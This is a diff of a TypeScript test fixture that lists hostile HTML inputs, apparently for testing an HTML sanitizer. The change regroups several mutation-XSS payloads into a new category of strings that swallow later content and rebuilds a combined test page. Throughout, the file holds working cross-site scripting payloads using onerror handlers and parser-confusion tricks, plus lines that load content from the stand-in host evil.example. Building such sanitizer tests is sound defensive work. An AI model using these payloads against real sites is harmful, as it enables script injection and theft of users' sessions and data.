@@ -44,7 +44,6 @@ export const hostileKinds = {
     `<style>@import "https://evil.example/x.css"; * { display: none !important }</style>`,
     `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run}">x</p>`,
     `<p style="position:fixed;inset:0;z-index:9999;background:red">x</p>`,
-    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
     `<template><img src=x onerror="${run}"></template>`,
     `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
     `<!--<img src="--><img src=x onerror=${run}//">`,
@@ -137,9 +136,7 @@ export const hostileKinds = {
   'what a second parsing changes': [
     `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
     `<math></p><style><!--</style><img src/onerror=${run}>`,
-    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}></form>`,
     `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>"></mtext></svg></mglyph></mtext></math>`,
-    `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${run}>"></foreignobject></annotation-xml></svg>`,
     `<table><math><select><mglyph><style><img src=x onerror=${run}></style></mglyph></select></math></table>`,
     `<p><noscript></p><style></noscript><img src=x onerror=${run}></style>`,
     `<select><template><style></template><img src=x onerror=${run}></style></select>`,
@@ -211,17 +208,27 @@ export const hostileKinds = {
     `<div hx-get="https://evil.example/" hx-trigger="load">x</div>`,
     `[[\u0024{${run}}]]`,
   ],
+  'what swallows all that follows': [
+    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
+    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}></form>`,
+    `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${run}>"></foreignobject></annotation-xml></svg>`,
+  ],
 } as const satisfies Record<string, readonly string[]>;
 
 export const hostileHtml: readonly string[] = [...new Set<string>(Object.values(hostileKinds).flat())];
 
 /** Ends whatever one of them has left open. */
 const end = `-->"'></style></script></xmp></noscript></noembed></noframes></iframe></template></textarea></title></select></math></svg></form></p>`;
+const swallowing: readonly string[] = hostileKinds['what swallows all that follows'];
 
-/** All of them in one text, each with a word after it that can be looked for. */
-export const hostilePage: string = hostileHtml
-  .map((html, place) => `${html}${end}<p>After ${place}.</p>`)
-  .join('\n');
+/** Stands after all that does not swallow it. */
+export const afterAll = 'After all.';
+/** All of them in one text. */
+export const hostilePage: string = [
+  ...hostileHtml.filter((html) => !swallowing.includes(html)).map((html) => html + end),
+  `<p>${afterAll}</p>`,
+  ...swallowing,
+].join('\n');
 
 /** Addresses that no link may lead to: none that runs, none out of the house that only looks as if it stayed. */
 export const hostileAddresses: readonly string[] = [
